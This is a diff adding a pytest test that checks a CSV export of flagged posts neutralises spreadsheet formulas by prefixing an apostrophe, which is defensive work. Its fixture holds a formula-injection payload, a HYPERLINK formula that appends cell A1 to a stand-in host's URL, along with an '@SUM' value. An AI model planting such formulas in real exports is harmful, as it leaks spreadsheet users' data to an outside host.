@@ -134,3 +134,17 @@ def test_a_resume_name_is_shown_in_full_but_a_field_too_long_for_a_file_name_is_
     assert len(resumes) == 4 and all(len(f.excerpt) < 300 and f.excerpt.endswith(".pdf") for f in resumes)
     with pytest.raises(LimitError, match="more than 3 flags"):
         review_export(data, Options(limits=Limits(flags=3)))
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula_from_the_export() -> None:
+    """A recommendation or a post is text from the export; in a spreadsheet a cell starting with
+    = + - @ would run as a formula. Each such cell starts with an apostrophe instead."""
+    import csv
+
+    from automation.review.flags_csv import flags_csv
+
+    data = export(Shares=POSTS + f'2024-01-01 10:00:00,{LINK},"=HYPERLINK(""http://x.example/?""&A1,""Acme"")",,,\n'
+                  + f'2024-01-02 10:00:00,{LINK},"@SUM(1+1) Acme",,,\n')
+    rows = list(csv.DictReader(io.StringIO(flags_csv(run(data, watch=("Acme",))))))
+    excerpts = [row["excerpt"] for row in rows if row["kind"] == "watch-word"]
+    assert len(excerpts) == 2 and all(e.startswith("'") for e in excerpts), excerpts
